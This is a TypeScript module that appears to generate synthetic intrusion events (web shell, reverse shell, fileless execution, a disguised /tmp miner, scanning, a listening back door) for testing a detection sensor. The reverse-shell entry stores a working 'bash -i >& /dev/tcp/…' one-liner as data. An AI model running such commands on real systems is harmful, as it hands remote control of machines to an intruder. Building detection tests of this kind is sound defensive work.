// Intruders, each by what their way in leaves for a sensor to see. They know the tier they are in and use what is there first.
import type { RawEvent } from '../model/raw-event.ts';
import type { Random } from './random.ts';
import type { Tier } from './workload.ts';

export interface Attacker {
  readonly name: string;
  /** MITRE ATT&CK. */
  readonly technique: string;
  readonly strike: (tier: Tier, random: Random) => readonly RawEvent[];
}

const shell = '/usr/bin/dash';

function start(tier: Tier, exe: string, argv: readonly string[], rest: Partial<RawEvent> = {}): RawEvent {
  const [host] = tier.members;
  const { exe: parentExe, uid } = tier.server;
  const ancestors = [rest.parentExe ?? parentExe, parentExe, '/usr/lib/systemd/systemd'];
  return {
    host,
    kind: 'process_start',
    evidence: 'outside',
    pid: 31_337,
    ppid: 31_336,
    exe,
    argv: [...argv],
    uid,
    euid: uid,
    parentExe,
    ancestors,
    ...rest,
  };
}

function publicAddress(random: Random): string {
  return `203.0.113.${random.integer(1, 254)}`;
}

export const attackers: readonly Attacker[] = [
  {
    name: 'web shell',
    technique: 'T1505.003',
    strike: (tier) => [
      start(tier, shell, ['sh', '-c', 'id; uname -a']),
      start(tier, '/usr/bin/id', ['id'], { parentExe: shell }),
    ],
  },
  {
    name: 'reverse shell',
    technique: 'T1059.004',
    strike: (tier, random) => {
      const address = publicAddress(random);
      return [
        start(tier, '/usr/bin/bash', ['bash', '-c', `bash -i >& /dev/tcp/${address}/443 0>&1`]),
        { ...call(tier, '/usr/bin/bash', address, 443) },
      ];
    },
  },
  {
    name: 'program in memory only',
    technique: 'T1620',
    strike: (tier) => [start(tier, '/memfd:x (deleted)', [tier.server.exe])],
  },
  {
    name: 'miner in /tmp',
    technique: 'T1496',
    strike: (tier, random) => [
      start(tier, '/tmp/.x/kthreadd', ['[kworker/0:1]']),
      call(tier, '/tmp/.x/kthreadd', publicAddress(random), 3333),
    ],
  },
  {
    name: 'the server itself calls out',
    technique: 'T1071',
    strike: (tier, random) => [call(tier, tier.server.exe, publicAddress(random), 443)],
  },
  {
    name: 'the server looks for other machines',
    technique: 'T1021.004',
    strike: (tier, random) =>
      Array.from({ length: 5 }, () => call(tier, tier.server.exe, `10.251.0.${random.integer(1, 254)}`, 22)),
  },
  {
    name: 'a back door that listens',
    technique: 'T1571',
    strike: (tier, random) => {
      const [host] = tier.members;
      const localPort = random.integer(1025, 30_000);
      const socket = { proto: 'tcp', localAddr: '0.0.0.0', localPort } as const;
      return [{ host, kind: 'net_listen', evidence: 'outside', exe: tier.server.exe, ...socket }];
    },
  },
  {
    name: 'the server with other arguments',
    technique: 'T1036',
    strike: (tier, random) => [
      start(tier, tier.server.exe, [...tier.server.argv, '--config', `/tmp/${random.text(6, 'abc')}`], {
        parentExe: '/usr/lib/systemd/systemd',
      }),
    ],
  },
  {
    name: 'the server as root',
    technique: 'T1548',
    strike: (tier) => [
      start(tier, tier.server.exe, tier.server.argv, { uid: 0, euid: 0, parentExe: '/usr/lib/systemd/systemd' }),
    ],
  },
  {
    name: 'an adopted shell',
    technique: 'T1564',
    strike: (tier) => [
      start(tier, '/bin/sh', ['/bin/sh'], { ppid: 1, parentExe: '/usr/lib/systemd/systemd', ancestors: [] }),
    ],
  },
];

function call({ members: [host] }: Tier, exe: string, remoteAddr: string, remotePort: number): RawEvent {
  return { host, kind: 'net_connect', evidence: 'outside', exe, proto: 'tcp', remoteAddr, remotePort };
}
